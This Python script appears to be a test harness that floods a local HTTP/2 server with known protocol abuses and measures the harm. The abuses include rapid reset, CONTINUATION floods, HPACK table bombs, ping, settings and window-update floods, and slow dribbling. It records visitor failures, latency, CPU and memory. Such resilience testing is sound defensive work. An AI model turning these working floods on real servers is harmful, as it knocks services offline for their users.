"""Floods a lane with one thing that HTTP/2 lets a visitor do too often, while others visit.

usage: floods.py PORT PID KIND SECONDS      Prints one line of JSON: what was sent, what the visitors met, what it cost.
"""
import json
import os
import select
import sys
import threading
import time

from frames import *

ATTACKERS, ATTACKER, VISITOR = 4, "127.0.0.2", "127.0.0.3"


def resets(peer):
    """A request and its end, over and over."""
    pieces = []
    for stream in range(peer.next, peer.next + 400, 2):
        pieces += [frame(HEADERS, END_HEADERS | END_STREAM, stream, peer.block()),
                   frame(RESET, 0, stream, number(CANCEL))]
    peer.next += 400
    return b"".join(pieces)


def pages(peer):
    """As many as a page has, then the next connection."""
    if peer.next > 1:
        raise OSError
    return resets(peer)


def upload(peer, piece, count=500):
    """Frames for a request whose content does not end."""
    lead = b""
    if not peer.isUploading:
        peer.isUploading = True
        lead = frame(HEADERS, END_HEADERS, peer.next, peer.encoder.encode(fields("/upload", "POST")))
        peer.stream, peer.next = peer.next, peer.next + 2
    return lead + frame(*piece, peer.stream, b"") * count


def continuation(peer):
    if peer.isUploading:
        return frame(CONTINUATION, 0, peer.next, b"") * 500
    peer.isUploading = True
    return frame(HEADERS, END_STREAM, peer.next, b"")


def lists(block):
    """Requests that hold a block each."""
    def flood(peer):
        pieces = [frame(HEADERS, END_HEADERS | END_STREAM, stream, block(peer))
                  for stream in range(peer.next, peer.next + 20, 2)]
        peer.next += 20
        return b"".join(pieces)
    return flood


def bomb(peer):
    """A field of the table, named by one byte each."""
    long = peer.encoder.encode([("x-long", "v" * 3900)])
    return long + bytes([0x80 | 62]) * 12000


def dribble(peer):
    """A large response, taken byte by byte."""
    lead = b""
    if not peer.isUploading:
        peer.isUploading = True
        lead = frame(SETTINGS, payload=settings((4, 0)))
        for stream in range(peer.next, peer.next + 20, 2):
            lead += frame(HEADERS, END_HEADERS | END_STREAM, stream, peer.encoder.encode(fields("/fixed/1000000")))
        peer.stream = peer.next
        peer.next += 20
    return lead + b"".join(frame(WINDOW, 0, peer.stream + 2 * (turn % 10), number(1)) for turn in range(500))


FLOODS = {
    "reset": resets,
    "reset, with ever new connections": pages,
    "ping": lambda peer: frame(PING, payload=b"12345678") * 500,
    "settings": lambda peer: frame(SETTINGS, payload=settings((4, 65535))) * 500,
    "priority": lambda peer: frame(PRIORITY, 0, 1, number(3) + b"\x10") * 500,
    "window update": lambda peer: frame(WINDOW, 0, 0, number(1)) * 500,
    "empty data": lambda peer: upload(peer, (DATA, 0)),
    "continuation": continuation,
    "unknown": lambda peer: frame(0x42, 0, 0, b"") * 500,
    "bomb": lists(bomb),
    # An empty cookie is place 32 of the static table. Written by the encoder it would cost the visitor's thread its turns.
    "crumbs": lists(lambda peer: peer.encoder.encode(fields()) + bytes([0x80 | 32]) * 4000),
    "malformed": lists(lambda peer: peer.encoder.encode([("a", "b")])),
    "dribble": dribble,
}


def attack(port, kind, until, outcome):
    while time.monotonic() < until:
        try:
            peer = Peer(port, source=ATTACKER)
        except (OSError, Closed):
            outcome["turned away"] += 1
            time.sleep(0.01)
            continue
        outcome["connections"] += 1
        peer.next, peer.isUploading, peer.stream = 1, False, 0
        peer.socket.setblocking(False)
        data = b""
        try:
            while time.monotonic() < until:
                if not data:
                    data = FLOODS[kind](peer)
                readable, writable, _ = select.select([peer.socket], [peer.socket], [], 0.2)
                if readable and not peer.socket.recv(1 << 20):
                    break
                if writable:
                    count = peer.socket.send(data)
                    outcome["bytes"] += count
                    data = data[count:]
        except OSError:
            pass
        peer.socket.close()


def visit(port, until, outcome):
    """A page and its parts on one connection, again and again."""
    while time.monotonic() < until:
        began = time.monotonic()
        try:
            peer = Peer(port, source=VISITOR)
            for stream in (1, 3, 5, 7):
                peer.ask(stream, "/fixed/5000")
            for stream in (1, 3, 5, 7):
                assert peer.answer(stream) == 200
                outcome["answers"] += 1
            peer.socket.close()
        except (OSError, Closed, AssertionError) as reason:
            outcome["failures"].append(repr(reason))
        outcome["worst"] = max(outcome["worst"], round(time.monotonic() - began, 3))
        time.sleep(0.05)


def processor(pid):
    return sum(int(open(f"/proc/{pid}/task/{task}/schedstat").read().split()[0])
               for task in os.listdir(f"/proc/{pid}/task")) / 1e9


def memory(pid):
    with open(f"/proc/{pid}/status") as file:
        return next(int(line.split()[1]) for line in file if line.startswith("VmRSS")) * 1024


def main(port, pid, kind, seconds):
    attackers = [{"connections": 0, "turned away": 0, "bytes": 0} for _ in range(ATTACKERS)]
    visitor = {"answers": 0, "failures": [], "worst": 0}
    memory_before, cost, began = memory(pid), processor(pid), time.monotonic()
    until = began + seconds
    threads = [threading.Thread(target=attack, args=(port, kind, until, one)) for one in attackers]
    threads.append(threading.Thread(target=visit, args=(port, until, visitor)))
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    taken = time.monotonic() - began
    visitor["failures"] = visitor["failures"][:3]
    print(json.dumps({
        **{name: sum(one[name] for one in attackers) for name in attackers[0]}, **visitor,
        "share of core": round((processor(pid) - cost) / taken, 3), "grown": memory(pid) - memory_before}))


if __name__ == "__main__":
    main(int(sys.argv[1]), int(sys.argv[2]), sys.argv[3], float(sys.argv[4]))
